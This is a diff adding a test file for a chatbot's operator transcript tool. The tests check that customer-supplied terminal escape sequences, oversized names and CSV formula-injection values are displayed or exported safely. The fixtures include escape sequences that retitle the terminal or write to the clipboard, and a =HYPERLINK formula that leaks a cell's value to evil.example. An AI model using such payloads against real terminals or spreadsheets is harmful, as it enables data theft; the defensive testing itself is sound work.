@@ -1,0 +1,158 @@
+// What the transcripts tool shows an operator when customers send hostile text: nothing a terminal would run,
+// nothing a spreadsheet would evaluate, nothing unbounded.
+import { mkdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { csvCell } from '../src/cli/export.js';
+import { normaliseNumber, takeNumber } from '../src/cli/numbers.js';
+import { runTranscripts } from '../src/cli/transcripts.js';
+import { clip, oneLine, visible } from '../src/cli/terminal-text.js';
+import { makeBot, tempDir } from './helpers/app.js';
+import { textFrom } from './helpers/fixtures.js';
+import { llmRequests, replyWith } from './helpers/llm.js';
+
+const HOSTILE_NAME = 'Evil\u001b]0;owned\u0007 \u001b[2J\u001b]52;c;ZXZpbA==\u0007\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007';
+const HOSTILE_TEXT = 'line one\nline two\u001b[31m red \u009b31m\u007f\r overwrite \u202eevil';
+const EVIL = '6281900000001';
+const HUGE = '6281900000002';
+const FORMULA = '6281900000003';
+
+let dbPath = '';
+let llmNames: string[] = [];
+
+function run(argv: string[], settings: { DEFAULT_COUNTRY_CODE?: string } = {}) {
+  const out: string[] = [];
+  const err: string[] = [];
+  const code = runTranscripts(argv, { out: (t) => out.push(t), err: (t) => err.push(t), settings: { DATABASE_PATH: dbPath, HANDOFF_HOURS: 24, ...settings }, now: Date.now() });
+  return { code, out: out.join('\n'), err: err.join('\n') };
+}
+
+const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;
+
+beforeAll(async () => {
+  replyWith({ content: 'Noted' });
+  const bot = makeBot();
+  await bot.post(textFrom(EVIL, HOSTILE_TEXT, { from_user: { name: HOSTILE_NAME, jid: `${EVIL}@s.whatsapp.net` } }));
+  await bot.post(textFrom(HUGE, `please help ${'x'.repeat(50_000)}`, { from_user: { name: 'N'.repeat(900_000), jid: `${HUGE}@s.whatsapp.net` } }));
+  await bot.post(textFrom(FORMULA, '=HYPERLINK("http://evil.example/?"&A1,"click")', { from_user: { name: '+SUM(1,2)', jid: `${FORMULA}@s.whatsapp.net` } }));
+  await bot.post(textFrom(FORMULA, '-12.5', { from_user: { name: '+SUM(1,2)', jid: `${FORMULA}@s.whatsapp.net` } }));
+  llmNames = llmRequests.map((r) => JSON.stringify(r.messages));
+  dbPath = bot.dbPath;
+  bot.db.$client.close();
+});
+
+describe('text from outside on the operator terminal', () => {
+  it.each([['list'], ['show', EVIL], ['search', 'line'], ['show', HUGE]])('%s prints no control character raw', (...argv) => {
+    const { code, out } = run(argv);
+    expect(code).toBe(0);
+    expect(out).not.toMatch(RAW_CONTROL);
+  });
+
+  it('shows escape sequences as visible text, and a message with line breaks on one line', () => {
+    const { out } = run(['show', EVIL]);
+    expect(out).toContain('Evil\\x1b]0;owned\\x07');
+    expect(out).toContain('line one ⏎ line two\\x1b[31m red \\x9b31m\\x7f ⏎ overwrite \\u202eevil');
+    const lines = out.split('\n');
+    expect(lines.filter((l) => l.includes('line two'))).toHaveLength(1);
+  });
+
+  it('a 900 000-character name is kept in the database but cut when shown', () => {
+    const list = run(['list']);
+    expect(list.out.length).toBeLessThan(2000);
+    expect(list.out).toMatch(/N{30,}…/);
+    const show = run(['show', HUGE]);
+    expect(show.out.length).toBeLessThan(6000);
+    expect(show.out).toContain('…');
+    const search = run(['search', 'please']);
+    expect(search.out.length).toBeLessThan(1000);
+  });
+
+  it('the LLM never gets the display name (and the message only up to MAX_INPUT_CHARS)', () => {
+    expect(llmNames.join('')).not.toContain('NNNNNNNNNN');
+    expect(llmNames.join('')).toContain('…cut: the message was 50012 characters long');
+  });
+});
+
+describe('the CSV export', () => {
+  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers numbers', () => {
+    const out = join(tempDir(), 'all.csv');
+    expect(run(['export', '--format', 'csv', '--out', out]).code).toBe(0);
+    const csv = readFileSync(out, 'utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(csv).toContain(`,"'+SUM(1,2)",`);
+    expect(csv).toContain(',-12.5,');
+    expect(csv).not.toMatch(/,"?[=+@]/);
+    expect(csv).not.toMatch(/[\u001b\u0007\u009b]/);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+SUM(1,2)', `"'+SUM(1,2)"`],
+    ['-2+3', "'-2+3"],
+    ['@cmd', "'@cmd"],
+    ['\tTAB', "'\tTAB"],
+    ['\r=1', "'\\x0d=1"],
+    ['-12.5', '-12.5'],
+    ['+62 812-3456-789', '+62 812-3456-789'],
+    ['(021) 555-0100', '(021) 555-0100'],
+    ['hello', 'hello'],
+  ])('%j becomes %j', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+
+  it('JSON Lines escape what JSON.stringify leaves raw, and read back the same', () => {
+    const { out } = run(['export', '--contact', EVIL]);
+    expect(out).not.toMatch(RAW_CONTROL);
+    expect(JSON.parse(out.split('\n')[0]!).text).toBe(HOSTILE_TEXT);
+  });
+
+  it('--out to a missing folder or to a folder is a one-line error', () => {
+    const missing = run(['export', '--out', join(tempDir(), 'no', 'such', 'file.csv')]);
+    expect(missing.code).toBe(1);
+    expect(missing.err).toMatch(/cannot write .*file\.csv: its folder does not exist/);
+    const folder = join(tempDir(), 'folder');
+    mkdirSync(folder);
+    const dir = run(['export', '--out', folder]);
+    expect(dir.code).toBe(1);
+    expect(dir.err).toMatch(/cannot write .*folder: it is a folder; name a file/);
+  });
+});
+
+describe('numbers as people type them', () => {
+  it('show and pause find a number typed in parts, in local form with DEFAULT_COUNTRY_CODE, or with +', () => {
+    expect(run(['show', '0819', '0000', '0001'], { DEFAULT_COUNTRY_CODE: '62' }).out).toContain(`(${EVIL})`);
+    expect(run(['show', '+62', '819-0000-0001']).out).toContain(`(${EVIL})`);
+    expect(run(['show', '0819', '0000', '0001']).err).toContain('no conversation with 081900000001');
+  });
+
+  it.each([
+    ['0812 3456 789', '62', '628123456789'],
+    ['+62 812-3456-789', '62', '628123456789'],
+    ['628123456789', '62', '628123456789'],
+    ['0812 3456 789', undefined, '08123456789'],
+    ['(0812) 345.678', '62', '62812345678'],
+    ['120363021234567890@g.us', '62', '120363021234567890@g.us'],
+  ])('%j with country code %j reads as %j', (typed, code, expected) => {
+    expect(normaliseNumber(typed, code)).toBe(expected);
+  });
+
+  it('the number is the leading words that look like one; the rest is the reason', () => {
+    expect(takeNumber(['0812', '3456', '789', 'angry', 'customer'], '62')).toEqual({ number: '628123456789', rest: ['angry', 'customer'] });
+  });
+
+  it('--limit is validated the same way in every command', () => {
+    for (const command of [['list'], ['search', 'hello']]) {
+      const { code, err } = run([...command, '--limit', 'abc']);
+      expect(code).toBe(1);
+      expect(err).toContain('--limit must be a positive whole number, not "abc"');
+    }
+  });
+});
+
+describe('terminal text helpers', () => {
+  it('keep tabs and newlines in visible(), cut without splitting an emoji', () => {
+    expect(visible('a\tb\nc\u001bd')).toBe('a\tb\nc\\x1bd');
+    expect(oneLine('a\r\nb')).toBe('a ⏎ b');
+    expect(clip('ab😀cd', 4)).toBe('ab…');
+  });
+});
